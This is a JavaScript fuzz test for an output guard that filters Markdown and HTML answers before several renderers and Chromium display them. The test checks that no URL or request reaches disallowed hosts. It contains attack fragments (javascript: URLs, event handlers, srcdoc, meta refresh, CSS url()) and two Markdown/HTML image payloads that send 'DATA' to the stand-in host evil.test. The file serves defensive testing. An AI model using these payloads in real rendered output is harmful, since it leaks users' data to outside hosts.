// The output guard against real renderers and a real browser (issue 15).
//
// Answers (tests/corpus/exfil/*.txt, mutations of them, and random answers
// built from attack pieces) go through the guard (build/ogfilter: one-shot,
// and streamed at random cuts, which must agree), then through each
// renderer a site may use, then Chromium parses the HTML. Fails on any URL
// in the DOM that loads or navigates outside the allowed hosts, on any
// request Chromium makes outside them, and on any script channel (event
// handler, javascript: URL, <script>, <base>, refresh, srcdoc, CSS url()).
//
//   node tests/diff/diff.test.js OGFILTER CORPUS_DIR
//   DIFF_SEED (15)  DIFF_COUNT random+mutated answers (120)
//   DIFF_SECONDS    0: stop after DIFF_COUNT; N: keep going N seconds
//   DIFF_OUT        directory for failing answers (default: none)
//
// Prints TAP-ish lines ("ok N - ...", "not ok N - ..."), "# ..." notes and a
// final "P passed, F failed" line, like tests/browser/chat.test.js.
'use strict';

const fs = require('fs');
const path = require('path');
const { execFileSync, spawnSync } = require('child_process');

const NM = path.join(__dirname, '..', 'browser', 'node_modules');
const { chromium } = require(path.join(NM, 'playwright-core'));
const MarkdownIt = require(path.join(NM, 'markdown-it'));
const { marked } = require(path.join(NM, 'marked'));
const launch = require(path.join(__dirname, '..', 'browser', 'launch'));

const OGFILTER = process.argv[2];
const CORPUS = process.argv[3];
const SEED = Number(process.env.DIFF_SEED || 15);
const COUNT = Number(process.env.DIFF_COUNT || 120);
const SECONDS = Number(process.env.DIFF_SECONDS || 0);
const OUT = process.env.DIFF_OUT || '';
const ALLOWED = ['docs.example.com', '.trusted.org'];
const PAGE = 'page.test';
const SECRET = 'cg-own-secret-0123456789';

let passed = 0;
let failed = 0;
let n = 0;
function ok(cond, name) {
    n++;
    if (cond) {
        passed++;
        console.log(`ok ${n} - ${name}`);
    } else {
        failed++;
        console.log(`not ok ${n} - ${name}`);
    }
}

// A small seeded PRNG: the same answers on every run of a given seed.
function prng(seed) {
    let s = seed >>> 0 || 1;
    return () => {
        s ^= s << 13; s >>>= 0;
        s ^= s >>> 17;
        s ^= s << 5; s >>>= 0;
        return s / 4294967296;
    };
}

const PIECES = [
    '[', ']', '(', ')', '![', '](', ']: ', '<', '>', '"', "'", ' ', '\n',
    '\n\n', '\\', '\t', '&#47;', '&#x2F;', '&colon;', '&sol;', '&#9;',
    '//', '/\\', '\\\\', 'https://', 'http:', 'HTTPS://', 'www.', 'ftp://',
    'javascript:', 'data:', 'mailto:', 'evil.test', 'evil.com', '.com',
    'docs.example.com', 'api.trusted.org', '@', 'x', 'p.png?d=DATA',
    '<img src=', '<img src="', '<a href=', '<iframe srcdoc="', '<video poster="',
    '<style>', '</style>', '<script>', '</script>', 'url(', '<svg>',
    '<image href=', '<form action=', '<button formaction=', '<object data=',
    '<embed src=', '<meta http-equiv=refresh content="0;url=', '<base href=',
    '<link rel=stylesheet href=', ' srcset="', ' background=', ' onerror=x ',
    ' style="background:url(', '`', '```\n', '<', '>', '*', '_', '~',
    '\u200b', 'é', 'README.md', ' title="', 'sk-ant-api03-', SECRET,
    'Y2ctb3duLXNlY3JldC0wMTIzNDU2Nzg5', '<img/src=', '&#x6a;avascript:',
    '](<', '>)', '\n[r]: ', '[r]', '<!--', '-->', '<textarea>', '<noscript>',
    '<math>', '%2e', ':\\', 'xmpp:', '?body=', '<a href="', '"><img src=',
    '<details open ontoggle=x>', '![', '](//', '(/', ' "t")', '<br>', '&amp;',
];

function randomAnswer(rnd) {
    let s = '';
    const k = 1 + Math.floor(rnd() * 40);
    for (let i = 0; i < k; i++) {
        s += PIECES[Math.floor(rnd() * PIECES.length)];
    }
    return s;
}

function mutate(rnd, a, b) {
    const i = Math.floor(rnd() * (a.length + 1));
    const j = Math.floor(rnd() * (b.length + 1));
    switch (Math.floor(rnd() * 4)) {
    case 0: return a.slice(0, i) + b.slice(j);
    case 1: return a.slice(0, i) + PIECES[Math.floor(rnd() * PIECES.length)]
                   + a.slice(i);
    case 2: return a.slice(0, i) + a.slice(i + Math.floor(rnd() * 8));
    default: return a.slice(0, i) + randomAnswer(rnd) + a.slice(i);
    }
}

function guard(answer, seed) {
    const args = ['-a', ALLOWED.join(' '), '-m', '1000', '-k', SECRET,
                  '-s', String(seed)];
    const r = spawnSync(OGFILTER, args, { input: answer, maxBuffer: 1 << 26 });
    if (r.error || r.stdout === null) {
        throw new Error(`${OGFILTER}: ${r.error ? r.error.message : 'no output'}`);
    }
    return { status: r.status, out: r.stdout.toString('utf8') };
}

function cmark(bin, args, text) {
    return execFileSync(bin, args, { input: text, maxBuffer: 1 << 26 })
        .toString('utf8');
}

const mdit = MarkdownIt();
const mditLinkify = MarkdownIt({ linkify: true });
const mditHtml = MarkdownIt({ html: true, linkify: true });
const RENDERERS = {
    'cmark': (t) => cmark('cmark', [], t),
    'cmark --unsafe': (t) => cmark('cmark', ['--unsafe'], t),
    'cmark-gfm autolink': (t) => cmark('cmark-gfm',
        ['-e', 'autolink', '-e', 'table', '-e', 'strikethrough'], t),
    'cmark-gfm autolink --unsafe': (t) => cmark('cmark-gfm',
        ['-e', 'autolink', '-e', 'table', '-e', 'strikethrough', '--unsafe'], t),
    'markdown-it': (t) => mdit.render(t),
    'markdown-it linkify': (t) => mditLinkify.render(t),
    'markdown-it html linkify': (t) => mditHtml.render(t),
    'marked': (t) => marked.parse(t),
};

function hostAllowed(h) {
    h = h.toLowerCase();
    if (h === PAGE) {
        return true;
    }
    return ALLOWED.some((a) => a[0] === '.'
        ? (h === a.slice(1) || h.endsWith(a)) : h === a);
}

// Runs in the page: every URL-bearing attribute, resolved as the browser
// does, and every script channel.
function domCheck([allowed, page, markers]) {
    const bad = [];
    const hostOk = (h) => h === page || allowed.some((a) => a[0] === '.'
        ? (h === a.slice(1) || h.endsWith(a)) : h === a);
    const urlOk = (v) => {
        let u;
        try {
            u = new URL(v, document.baseURI);
        } catch (e) {
            return true;    // unparsable: loads and links nothing
        }
        if (u.protocol === 'mailto:') {
            return true;    // documented: a mail program, sends nothing
        }
        if (u.protocol !== 'http:' && u.protocol !== 'https:') {
            return false;
        }
        return hostOk(u.hostname.toLowerCase());
    };
    const urlAttrs = new Set(['href', 'src', 'xlink:href', 'action',
        'formaction', 'poster', 'background', 'data', 'cite', 'ping',
        'longdesc', 'lowsrc', 'dynsrc', 'codebase', 'manifest', 'icon',
        'profile', 'usemap', 'archive', 'classid']);
    if (document.baseURI !== `http://${page}/doc`) {
        bad.push(`base URI changed: ${document.baseURI}`);
    }
    for (const el of document.querySelectorAll('*')) {
        const tag = el.localName;
        if (tag === 'script' || tag === 'base') {
            bad.push(`<${tag}> element`);
        }
        if (tag === 'meta' && /refresh/i.test(el.getAttribute('http-equiv') || '')) {
            bad.push('<meta refresh>');
        }
        if (tag === 'style' && /url\s*\(|@import|image-set/i.test(el.textContent)) {
            bad.push(`<style> with a URL: ${el.textContent.slice(0, 80)}`);
        }
        for (const a of el.attributes) {
            const name = a.name.toLowerCase();
            if (name.startsWith('on')) {
                bad.push(`event handler ${name} on <${tag}>`);
            } else if (name === 'style' && /url\s*\(|image-set/i.test(a.value)) {
                bad.push(`style url() on <${tag}>`);
            } else if (name === 'srcdoc') {
                bad.push(`srcdoc on <${tag}>`);
            } else if (name === 'srcset' || name === 'imagesrcset') {
                for (const c of a.value.split(',')) {
                    const u = c.trim().split(/\s+/)[0];
                    if (u && !urlOk(u)) {
                        bad.push(`${name} ${u} on <${tag}>`);
                    }
                }
            } else if (urlAttrs.has(name) && !urlOk(a.value)) {
                bad.push(`${name}=${a.value.slice(0, 100)} on <${tag}>`);
            }
        }
    }
    for (let k = 0; k < markers; k++) {
        if (!document.getElementById(`cg-diff-m${k}`)) {
            bad.push(`marker ${k} swallowed`);
        }
    }
    return bad;
}

async function checkHtml(page, html, requests, markers = 0) {
    requests.length = 0;
    page.__doc = html;
    try {
        await page.goto(`http://${PAGE}/doc`, { waitUntil: 'load',
                                                 timeout: 10000 });
    } catch (e) {
        return [`page did not load: ${e.message.split('\n')[0]}`];
    }
    const bad = await page.evaluate(domCheck, [ALLOWED, PAGE, markers]).catch(
        (e) => [`DOM check failed: ${e.message.split('\n')[0]}`]);
    for (const r of requests) {
        let h = '';
        try {
            h = new URL(r).hostname;
        } catch (e) { /* recorded as is */ }
        if (!hostAllowed(h)) {
            bad.push(`request to ${r.slice(0, 120)}`);
        }
    }
    return bad;
}

function save(kind, answer, guarded, renderer, html, bad) {
    if (!OUT) {
        return;
    }
    fs.mkdirSync(OUT, { recursive: true });
    const f = path.join(OUT, `${kind}-${Date.now()}-${Math.floor(Math.random() * 1e6)}.json`);
    fs.writeFileSync(f, JSON.stringify({ answer, guarded, renderer, html, bad },
                                       null, 1));
    console.log(`# saved ${f}`);
}

async function main() {
    const rnd = prng(SEED);
    const corpus = fs.readdirSync(CORPUS).filter((f) => f.endsWith('.txt'))
        .sort().map((f) => ({ name: f, text: fs.readFileSync(path.join(CORPUS, f), 'utf8') }));
    const browser = await launch(chromium);
    const requests = [];
    const ctx = await browser.newContext({ javaScriptEnabled: true });
    const page = await ctx.newPage();
    // Every request is recorded and answered here: nothing leaves the
    // machine. The document itself comes from page.__doc.
    await ctx.route('**/*', (route) => {
        const u = route.request().url();
        if (u === `http://${PAGE}/doc`) {
            return route.fulfill({ status: 200, contentType: 'text/html',
                body: `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>${page.__doc}</body></html>` });
        }
        requests.push(u);
        return route.fulfill({ status: 404, body: '' });
    });
    page.on('dialog', (d) => d.dismiss().catch(() => {}));

    let answers = 0;
    let streamBad = 0;
    let domBad = 0;
    const seenBad = new Set();
    const started = Date.now();

    // Rendered outputs are checked many to a document, each followed by a
    // marker; a document with a finding or a swallowed marker (an unclosed
    // <textarea>, <!--, ...) is checked again one output at a time.
    let batch = [];
    async function flush() {
        if (!batch.length) {
            return;
        }
        const html = batch.map((b, k) => `<div>${b.html}</div><i id="cg-diff-m${k}"></i>`)
            .join('\n');
        const bad = await checkHtml(page, html, requests, batch.length);
        if (bad.length) {
            for (const b of batch) {
                const one = await checkHtml(page, b.html, requests);
                if (one.length) {
                    domBad++;
                    const key = `${b.renderer}|${one[0]}`;
                    if (!seenBad.has(key) && seenBad.size < 40) {
                        seenBad.add(key);
                        console.log(`# ${b.kind} via ${b.renderer}: ${one.join('; ')}`);
                        console.log(`#   guarded: ${JSON.stringify(b.guarded).slice(0, 300)}`);
                    }
                    save(b.kind, b.answer, b.guarded, b.renderer, b.html, one);
                }
            }
        }
        batch = [];
    }

    async function one(kind, answer) {
        answers++;
        const g = guard(answer, answers);
        if (g.status !== 0) {
            streamBad++;
            save(kind, answer, g.out, 'ogfilter', '', [`exit ${g.status}`]);
            console.log(`# ${kind}: ogfilter exit ${g.status} (3: streamed != one-shot)`);
            return;
        }
        for (const [name, render] of Object.entries(RENDERERS)) {
            try {
                batch.push({ kind, answer, guarded: g.out, renderer: name,
                             html: render(g.out) });
            } catch (e) {
                console.log(`# ${kind}: ${name} failed: ${e.message.split('\n')[0]}`);
            }
        }
        if (batch.length >= 64) {
            await flush();
        }
    }

    try {
        // The checker itself must see what the guard is there to stop: the
        // issue's two examples, unguarded, do leak.
        const raw = await checkHtml(page, RENDERERS['cmark'](
            '[x](/rel ![i](https://evil.test/p.png?d=DATA))'), requests);
        ok(raw.length > 0, 'checker: the unguarded Markdown example leaks in cmark');
        const raw2 = await checkHtml(page, RENDERERS['marked'](
            'a <img src=" //evil.test/x"> b'), requests);
        ok(raw2.some((b) => /request to http:\/\/evil\.test/.test(b)),
           'checker: the unguarded raw HTML example makes Chromium fetch');

        for (const c of corpus) {
            await one(`corpus ${c.name}`, c.text);
        }
        await flush();
        ok(streamBad === 0 && domBad === 0,
           `corpus: ${corpus.length} answers x ${Object.keys(RENDERERS).length} renderers, nothing foreign`);
        let i = 0;
        for (; SECONDS ? (Date.now() - started) / 1000 < SECONDS : i < COUNT; i++) {
            if (i % 2 === 0) {
                const a = corpus[Math.floor(rnd() * corpus.length)].text;
                const b = corpus[Math.floor(rnd() * corpus.length)].text;
                await one(`mutated #${i}`, mutate(rnd, a, b));
            } else {
                await one(`random #${i}`, randomAnswer(rnd));
            }
        }
        await flush();
        ok(streamBad === 0, `streamed equals one-shot for all ${answers} answers`);
        ok(domBad === 0, `${i} mutated and random answers (seed ${SEED}), nothing foreign in any renderer or request`);
    } finally {
        await browser.close();
    }
    console.log(`# ${answers} answers, ${Object.keys(RENDERERS).length} renderers, ${((Date.now() - started) / 1000).toFixed(1)} s`);
    console.log(`${passed} passed, ${failed} failed`);
    process.exit(failed ? 1 : 0);
}

main().catch((e) => {
    console.log(`not ok - ${e.stack}`);
    console.log(`${passed} passed, ${failed + 1} failed`);
    process.exit(1);
});
